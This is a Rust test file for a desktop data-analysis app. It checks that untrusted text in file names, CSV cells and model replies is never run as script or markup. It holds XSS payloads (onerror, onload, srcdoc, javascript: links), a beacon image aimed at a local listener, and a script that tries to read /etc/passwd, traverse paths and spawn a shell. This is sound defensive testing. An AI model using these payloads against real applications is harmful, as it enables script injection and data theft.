//! Text that means harm, in a file's name, header and cells, and in all that a model says and writes.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use assay_testkit::ScriptedServer;
use assay_tests::docker;
use serde_json::{Value, json};

use crate::desk::Desk;
use crate::look::look;
use crate::script::{chart, python, report, say};
use crate::stage::Stage;

const MARKUP: [&str; 4] = [
    "<img src=x onerror=window.harmed=1>",
    "<svg onload=window.harmed=1></svg>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "[press me](javascript:window.harmed=1)",
];

/// A server of somebody else's, which must hear nothing.
struct Listener {
    port: u16,
    heard: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(AtomicUsize::new(0));
        let own = heard.clone();
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                own.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, heard }
    }

    fn picture(&self) -> String {
        format!("![all totals](http://127.0.0.1:{}/p.png?d=42)", self.port)
    }
}

/// Nothing of the text above has become a part of the page, and nothing of it ran.
async fn is_unharmed(desk: &Desk, place: &str) {
    let script = "return {
        harmed: window.harmed ?? null,
        markup: [...document.querySelectorAll(
            '[onerror], [onload], iframe, object, embed, main script, [href^=\"javascript:\"]',
        )].map((each) => each.outerHTML),
        pictures: [...document.images].map((image) => image.src)
            .filter((address) => !/^(artifact|data|tauri|blob):/.test(address)),
    }";
    let found = desk.script(script, Vec::new()).await;
    assert_eq!(found, json!({"harmed": null, "markup": [], "pictures": []}), "{place}");
}

#[tokio::test]
async fn field_112_114_115_untrusted_text_stays_text_and_only_pictures_of_the_run_are_shown() {
    if docker().await.is_none() {
        return;
    }
    let Some(mut stage) = Stage::set() else { return };
    let listener = Listener::start();
    let all = format!("{}\n\n{}", MARKUP.join("\n\n"), listener.picture());
    let pictures =
        ["charts/a b.png", "charts/ü.png", "charts/no #1.png", "charts/50 %.png", "charts/plain.png"];
    let drawing = pictures.map(|name| chart(&format!("output/{name}"))).concat();
    let code =
        format!("{drawing}print({all:?})\nopen('output/found.csv', 'w').write('{}\\n1\\n')", MARKUP[0]);
    let written = format!(
        "{all}\n\n![first](charts/a b.png)\n\n![second](./charts/ü.png)\n\n![third](charts/no #1.png)\n\n\
         ![fourth](charts/50%20%25.png)\n\n<img src=\"charts/plain.png\">\n\n![out](../../assay.db)\n"
    );
    let mut script = vec![python(MARKUP[0], &code), report(MARKUP[0], &written)];
    // It is reminded twice that a link of its report leads nowhere.
    script.extend([say(&all), say(&all), say(&all)]);
    let server = ScriptedServer::start(script);
    let cells = format!("\"{}\",\"{}\"\n", MARKUP.join(" "), listener.picture()).repeat(3);
    let table = stage.file(
        "<img src=x onerror=window.harmed=1>.csv",
        format!("=1+1,<svg onload=window.harmed=1>\n{cells}"),
    );
    let desk = stage.open_app(&[table.to_str().unwrap()]).await;
    desk.see("Seen at a glance").await;
    desk.see("<img src=x onerror=window.harmed=1>.csv").await;
    desk.see("<svg onload=window.harmed=1>").await;
    is_unharmed(&desk, "the desk").await;
    desk.choose_model(&server.url(), "").await;
    desk.press("Assay").await;
    desk.ask(&format!("What of {}?", MARKUP[0])).await;
    desk.see_at_last("Finished, but something asked for is missing.").await;
    for words in ["press me", "all totals (127.0.0.1:", "<svg onload=window.harmed=1>", "<iframe srcdoc="] {
        desk.see(words).await;
    }
    desk.see("is not among the files of this run.").await;
    desk.see_charts(pictures.len()).await;
    is_unharmed(&desk, "the report").await;
    look(&stage, &desk, "result-untrusted").await;
    for tab in ["Charts", "Tables", "Files", "How this was worked out"] {
        desk.press(tab).await;
        is_unharmed(&desk, tab).await;
    }
    desk.press(MARKUP[0]).await;
    desk.see("all totals").await;
    is_unharmed(&desk, "a step").await;
    desk.press("History").await;
    desk.see("What of <img src=x onerror=window.harmed=1>?").await;
    is_unharmed(&desk, "the history").await;
    stage.close_window();
    stage.wait_for_end();

    let desk = stage.open_app(&["--open", "latest"]).await;
    desk.see("all totals (127.0.0.1:").await;
    is_unharmed(&desk, "the report after a restart").await;
    assert_eq!(listener.heard.load(Ordering::SeqCst), 0, "nobody was told anything");
    std::net::TcpStream::connect(("127.0.0.1", listener.port)).unwrap();
    crate::stage::wait_for(crate::stage::SOON, "the listener", || listener.heard.load(Ordering::SeqCst) == 1);
    stage.close_window();
    stage.wait_for_end();
}

/// What a script could try, were one to run: each attempt answers with what it got, or `refused`.
const ATTEMPTS: &str = "
    const [address, done] = [arguments[0], arguments[arguments.length - 1]];
    const invoke = (name, told) => window.__TAURI_INTERNALS__.invoke(name, told);
    const attempts = {
        fetch_web: () => fetch(address),
        fetch_file: () => fetch('file:///etc/passwd'),
        fetch_out_of_run: () => fetch('artifact://localhost/x/..%2f..%2f..%2fetc%2fpasswd')
            .then((answer) => answer.ok || Promise.reject(new Error(answer.status))),
        // It answers before anything is sent; whether anything was, the listener knows.
        beacon: async () => navigator.sendBeacon(address) && Promise.reject(new Error('unknown')),
        socket: () => new Promise((open, close) => {
            const socket = new WebSocket(address.replace('http', 'ws'));
            socket.onopen = open;
            socket.onerror = close;
        }),
        picture: () => new Promise((load, fail) => {
            const image = new Image();
            image.onload = load;
            image.onerror = fail;
            image.src = address;
        }),
        frame: () => new Promise((load, fail) => {
            const frame = document.createElement('iframe');
            frame.srcdoc = '<script>parent.framed = 1</' + 'script>';
            document.body.append(frame);
            setTimeout(() => (window.framed ? load(1) : fail(new Error('no'))), 500);
            frame.hidden = true;
        }),
        inline_script: async () => {
            const script = document.createElement('script');
            script.textContent = 'window.inlined = 1';
            document.body.append(script);
            return window.inlined ?? Promise.reject(new Error('no'));
        },
        handler: async () => {
            const button = document.createElement('button');
            button.setAttribute('onclick', 'window.handled = 1');
            button.click();
            return window.handled ?? Promise.reject(new Error('no'));
        },
        evaluate: async () => (0, eval)('1'),
        read_file: () => invoke('plugin:fs|read_text_file', { path: '/etc/passwd' }),
        open_shell: () => invoke('plugin:shell|execute', { program: 'sh', args: [] }),
        open_address: () => invoke('plugin:opener|open_url', { url: address }),
        new_window: () => invoke('plugin:webview|create_webview_window', { options: { label: 'x' } }),
        run_of_a_path: () => invoke('open_run', { run: '../../etc' }),
        file_of_a_path: () => invoke('file_page', { file: '/etc/passwd', offset: 0, limit: 1 }),
    };
    const tried = Object.entries(attempts).map(async ([name, attempt]) => {
        const got = await Promise.resolve().then(attempt).then((got) => `got ${got}`, () => 'refused');
        return [name, got];
    });
    Promise.all(tried).then((answers) => done(answers.filter(([, answer]) => answer !== 'refused')))";

#[tokio::test]
async fn field_104_113_a_script_in_the_page_would_reach_no_file_no_program_and_no_network() {
    let Some(mut stage) = Stage::set() else { return };
    let listener = Listener::start();
    let desk = stage.open_app(&[]).await;
    desk.see("Drop your data here").await;
    let address = format!("http://127.0.0.1:{}/", listener.port);
    let got = desk.script_async(ATTEMPTS, vec![json!(address)]).await;
    assert_eq!(got, json!([]));
    assert_eq!(listener.heard.load(Ordering::SeqCst), 0, "nobody was told anything");
    // What the window may do is done: the attempts are refused for what they want, not for being attempts.
    let asked = "const done = arguments[0];
        window.__TAURI_INTERNALS__.invoke('runs', { search: '' }).then(done, (error) => done(String(error)))";
    assert_eq!(desk.script_async(asked, Vec::new()).await, Value::Array(Vec::new()));
    stage.close_window();
    stage.wait_for_end();
}
